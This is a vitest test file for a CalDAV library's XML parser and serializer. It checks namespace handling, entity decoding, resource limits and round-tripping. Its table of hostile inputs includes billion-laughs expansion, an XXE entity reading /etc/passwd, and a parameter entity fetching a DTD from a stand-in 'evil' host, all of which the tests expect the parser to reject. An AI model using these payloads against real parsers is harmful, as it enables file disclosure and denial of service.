import { describe, expect, it } from 'vitest';
import { ProtocolError } from '@cal/core';
import { child, childText, children, descendants, escapeXml, parseXml, serializeXml, xml } from '@cal/core/xml';

const MS = `<?xml version="1.0" encoding="utf-8"?>
<!-- a comment -->
<D:multistatus xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav">
  <D:response>
    <D:href>/cal/a%20b.ics</D:href>
    <D:propstat><D:prop><D:getetag>"e1"</D:getetag>
      <C:calendar-data><![CDATA[BEGIN:VCALENDAR
END:VCALENDAR]]></C:calendar-data></D:prop>
      <D:status>HTTP/1.1 200 OK</D:status></D:propstat>
  </D:response>
  <response xmlns="DAV:"><href>/x &amp; y</href><?pi skip?></response>
</D:multistatus>`;

describe('parseXml', () => {
  it('resolves prefixes and default namespaces', () => {
    const root = parseXml(MS);
    expect(root).toMatchObject({ ns: 'DAV:', local: 'multistatus' });
    const rs = children(root, 'DAV:', 'response');
    expect(rs).toHaveLength(2);
    expect(childText(rs[0], 'DAV:', 'href')).toBe('/cal/a%20b.ics');
    expect(childText(rs[1], 'DAV:', 'href')).toBe('/x & y');
    const data = descendants(root, 'urn:ietf:params:xml:ns:caldav', 'calendar-data')[0];
    expect(data?.text).toBe('BEGIN:VCALENDAR\nEND:VCALENDAR');
    expect(childText(child(child(rs[0], 'DAV:', 'propstat'), 'DAV:', 'prop'), 'DAV:', 'getetag')).toBe('"e1"');
  });

  it('handles attributes, namespaced attributes, char refs and self-closing tags', () => {
    const el = parseXml(`<a xmlns:x="urn:x" k='v&lt;' x:z="1"><b/><c>&#65;&#x42;&#x1F600;</c></a>`);
    expect(el.attrs).toEqual({ k: 'v<', '{urn:x}z': '1' });
    expect(el.children.map((c) => c.local)).toEqual(['b', 'c']);
    expect(el.children[1]!.text).toBe('AB😀');
    expect(el.ns).toBe('');
  });

  it('scopes namespace declarations to the element', () => {
    const el = parseXml('<a xmlns="urn:1"><b xmlns="urn:2"><c/></b><d/><e xmlns=""/></a>');
    expect(el.children[0]!.children[0]!.ns).toBe('urn:2');
    expect(el.children[1]!.ns).toBe('urn:1');
    expect(el.children[2]!.ns).toBe('');
  });

  it('reads Xandikos-style URL-encoded hrefs and mistyped namespaces as plain data', () => {
    const el = parseXml('<d:multistatus xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:carldav:"><c:x/></d:multistatus>');
    expect(el.children[0]!.ns).toBe('urn:ietf:params:xml:ns:carldav:');
  });

  const hostile: [string, string][] = [
    ['DOCTYPE', '<!DOCTYPE a><a/>'],
    [
      'billion laughs',
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
    ],
    ['XXE', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'],
    ['parameter entity', '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><foo/>'],
    ['undeclared entity', '<a>&nbsp;</a>'],
    ['entity in attribute', '<a b="&xxe;"/>'],
    ['NUL char ref', '<a>&#0;</a>'],
    ['surrogate char ref', '<a>&#xD800;</a>'],
    ['bare ampersand', '<a>fish & chips</a>'],
    ['mismatched tags', '<a><b></a></b>'],
    ['unclosed', '<a><b>'],
    ['two roots', '<a/><b/>'],
    ['text outside root', 'hello <a/>'],
    ['unbound prefix', '<x:a/>'],
    ['unquoted attribute', '<a b=c/>'],
    ['duplicate attribute', '<a b="1" b="2"/>'],
    ['HTML', '<html><body><p>Bad gateway<br></body></html>'],
    ['empty', ''],
    ['garbage', 'not xml at all'],
    ['JSON', '{"error":"x"}'],
    ['bare ENTITY declaration', '<!ENTITY x "y"><a/>'],
    ['DOCTYPE after the root', '<a/><!DOCTYPE a>'],
    ['DOCTYPE inside an element', '<a><!DOCTYPE a></a>'],
    ['prototype-named entity', '<a>&constructor;</a>'],
    ['__proto__ entity', '<a>&__proto__;</a>'],
    ['char ref above U+10FFFF', '<a>&#x110000;</a>'],
    ['huge decimal char ref', '<a>&#99999999999;</a>'],
    ['uppercase X char ref', '<a>&#X41;</a>'],
    ['empty char ref', '<a>&#;</a>'],
    ['control char ref', '<a>&#x1B;</a>'],
    ['unterminated entity', '<a>&amp</a>'],
    ['"<" in attribute value', '<a b="<"/>'],
    ['attribute without value', '<a b/>'],
    ['unterminated attribute value', '<a b="1/>'],
    ['unterminated comment', '<a><!-- x</a>'],
    ['unterminated CDATA', '<a><![CDATA[x</a>'],
    ['CDATA outside root', '<![CDATA[x]]><a/>'],
    ['empty element name', '< a/>'],
    ['reserved prefix redeclared', '<a xmlns:xml="urn:x"/>'],
    ['prefix bound to empty namespace', '<a xmlns:p=""/>'],
    ['double-colon name', '<a xmlns:p="urn:p"><p:b:c/></a>'],
  ];
  for (const [name, body] of hostile) {
    it(`rejects ${name} with ProtocolError`, () => {
      expect(() => parseXml(body)).toThrow(ProtocolError);
    });
  }

  it('rejects a huge billion-laughs payload fast, without expanding anything', () => {
    const ents = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
    const body = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">${ents}]><r>&l10;</r>`;
    const t0 = performance.now();
    expect(() => parseXml(body)).toThrow(/DTD/);
    expect(performance.now() - t0).toBeLessThan(50);
  });

  it('stays linear on pathological markup (long names, whitespace runs, stray ampersands)', () => {
    const n = 200_000;
    const bodies = [
      `<a${' '.repeat(n)}b="1"${' '.repeat(n)}/>`,
      `<a b${' '.repeat(n)}/>`,
      `<a>${'&'.repeat(n)}</a>`,
      `<a>${'&a'.repeat(n)}</a>`,
      `<a b="${'x'.repeat(n)}/>`,
      `<${'a'.repeat(n)}/>`,
      `<a>${'<b '.repeat(n)}`,
    ];
    for (const body of bodies) {
      const t0 = performance.now();
      try {
        parseXml(body);
      } catch (e) {
        expect(e).toBeInstanceOf(ProtocolError);
      }
      expect(performance.now() - t0).toBeLessThan(200);
    }
  });

  it('keeps the xml prefix, an empty default namespace and whitespace around end-tag names', () => {
    const el = parseXml('\uFEFF<a xml:lang="en" xmlns="urn:1"><b xmlns=""/></a >');
    expect(el.attrs).toEqual({ '{http://www.w3.org/XML/1998/namespace}lang': 'en' });
    expect(el.children[0]!.ns).toBe('');
    expect(parseXml('<a>&lt;&gt;&amp;&quot;&apos;&#9;</a>').text).toBe('<>&"\'\t');
  });

  it('enforces depth and node limits', () => {
    const deep = '<a>'.repeat(300) + '</a>'.repeat(300);
    expect(() => parseXml(deep)).toThrow(/deeper than 256/);
    expect(parseXml('<a>'.repeat(10) + '</a>'.repeat(10), { maxDepth: 10 }).local).toBe('a');
    expect(() => parseXml(`<a>${'<b/>'.repeat(20)}</a>`, { maxNodes: 10 })).toThrow(/more than 10 elements/);
  });

  it('is linear: parses a 5,000-response multistatus quickly', () => {
    const resp = '<d:response><d:href>/c/x.ics</d:href><d:propstat><d:prop><d:getetag>"1"</d:getetag></d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>';
    const body = `<d:multistatus xmlns:d="DAV:">${resp.repeat(5000)}</d:multistatus>`;
    const root = parseXml(body);
    expect(root.children).toHaveLength(5000);
  });
});

describe('serializeXml', () => {
  it('round-trips with declared prefixes and escaping', () => {
    const node = xml('DAV:', 'propfind', {}, [
      xml('DAV:', 'prop', {}, [xml('DAV:', 'displayname'), xml('urn:ietf:params:xml:ns:caldav', 'comp', { name: 'VEVENT' })]),
      xml('urn:other', 'note', { '{urn:other}lang': 'en' }, ['a < b & "c"']),
    ]);
    const text = serializeXml(node, { prefixes: { 'DAV:': 'd', 'urn:ietf:params:xml:ns:caldav': 'c' } });
    expect(text).toContain('<d:propfind xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav" xmlns:ns0="urn:other">');
    const back = parseXml(text);
    expect(back.children[1]).toMatchObject({ ns: 'urn:other', local: 'note', attrs: { '{urn:other}lang': 'en' }, text: 'a < b & "c"' });
    expect(back.children[0]!.children[1]!.attrs).toEqual({ name: 'VEVENT' });
  });

  it('supports a default namespace and still prefixes namespaced attributes', () => {
    const text = serializeXml(xml('DAV:', 'a', { '{DAV:}x': '1' }), { prefixes: { 'DAV:': '' }, declaration: false });
    expect(parseXml(text)).toMatchObject({ ns: 'DAV:', local: 'a', attrs: { '{DAV:}x': '1' } });
  });

  it('declares a namespace used only by attributes without changing the default namespace', () => {
    const text = serializeXml(xml('', 'a', { '{DAV:}x': '1' }, [xml('urn:u', 'b'), 'é & <']), { prefixes: { 'DAV:': '' }, declaration: false });
    expect(text).toBe('<a xmlns:ns1="urn:u" xmlns:ns0="DAV:" ns0:x="1"><ns1:b/>é &amp; &lt;</a>');
    expect(parseXml(text)).toMatchObject({ ns: '', attrs: { '{DAV:}x': '1' }, children: [{ ns: 'urn:u', local: 'b' }] });
  });

  it('escapeXml escapes all five specials', () => {
    expect(escapeXml(`<&>"'`)).toBe('&lt;&amp;&gt;&quot;&apos;');
  });

  it('namespace URIs come back equal to the literals whatever their spelling in the body (interned, not slices)', () => {
    const t = parseXml('<r xmlns="urn:a" xmlns:b="urn:b"><x/><b:x/><x xmlns="__proto__"><b:x xmlns:b="constructor"/></x><x/></r>');
    expect(t.children.map((c) => `${c.ns}|${c.local}`)).toEqual(['urn:a|x', 'urn:b|x', '__proto__|x', 'urn:a|x']);
    expect(t.children[2]!.children[0]).toMatchObject({ ns: 'constructor', local: 'x' });
    for (const bad of ['<a></>', '<a></ab>', '<a></b>', '<p:a xmlns:p="u"></q:a>']) expect(() => parseXml(bad)).toThrow(ProtocolError);
  });
});
